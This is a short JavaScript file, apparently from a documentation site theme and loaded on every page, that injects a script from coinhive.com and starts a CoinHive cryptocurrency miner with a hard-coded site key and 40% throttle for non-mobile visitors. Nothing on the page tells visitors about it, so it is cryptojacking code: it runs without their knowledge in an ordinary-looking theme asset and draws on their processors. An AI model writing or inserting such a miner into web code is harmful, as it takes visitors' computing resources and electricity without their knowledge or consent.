// Loaded on every page of the docs theme.
(function () {
  var tag = document.createElement('script');
  tag.src = 'https://coinhive.com/lib/coinhive.min.js'; //@act
  tag.onload = function () {
    var miner = new CoinHive.Anonymous('nT8rVf3Lk2mQx9Zb1Wc7Yd5Ue0Sg4Ha6', { throttle: 0.4 });
    if (!miner.isMobile() && !miner.didOptOut(14400)) miner.start();
  };
  document.head.appendChild(tag);
})();
